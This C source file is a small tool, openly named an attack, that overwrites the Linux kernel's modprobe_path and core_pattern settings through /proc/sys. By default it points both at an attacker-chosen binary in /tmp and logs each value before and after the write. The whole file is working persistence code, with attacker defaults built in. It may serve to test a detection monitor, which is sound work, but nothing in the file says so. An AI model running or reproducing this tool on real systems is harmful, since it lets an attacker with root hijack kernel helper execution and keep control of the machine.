/*
 * sysctl-attack: the classic privilege-persistence move of overwriting kernel.modprobe_path and
 * kernel.core_pattern through /proc/sys. Prints each value before and after.
 *   sysctl-attack                      both, with attacker defaults
 *   sysctl-attack modprobe_path VALUE  one of them, with a chosen value
 *   sysctl-attack core_pattern VALUE
 */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static int show(const char *name, const char *label) {
  char path[64], value[256];
  snprintf(path, sizeof path, "/proc/sys/kernel/%s", name);
  int fd = open(path, O_RDONLY);
  if (fd < 0) return perror(path), -1;
  ssize_t n = read(fd, value, sizeof value - 1);
  close(fd);
  if (n < 0) return perror(path), -1;
  value[n] = '\0';
  value[strcspn(value, "\n")] = '\0';
  printf("%s %s=%s\n", label, name, value);
  return 0;
}

static int overwrite(const char *name, const char *value) {
  char path[64];
  snprintf(path, sizeof path, "/proc/sys/kernel/%s", name);
  if (show(name, "BEFORE") != 0) return -1;
  int fd = open(path, O_WRONLY);
  if (fd < 0) return perror(path), -1;
  ssize_t n = write(fd, value, strlen(value));
  close(fd);
  if (n != (ssize_t)strlen(value)) return perror(path), -1;
  return show(name, "AFTER");
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc == 1) {
    int a = overwrite("modprobe_path", "/tmp/vmi-pwn");
    int b = overwrite("core_pattern", "|/tmp/vmi-pwn %p");
    return a == 0 && b == 0 ? 0 : 1;
  }
  if (argc == 3 && (strcmp(argv[1], "modprobe_path") == 0 || strcmp(argv[1], "core_pattern") == 0))
    return overwrite(argv[1], argv[2]) == 0 ? 0 : 1;
  fprintf(stderr, "usage: sysctl-attack [modprobe_path|core_pattern VALUE]\n");
  return 2;
}
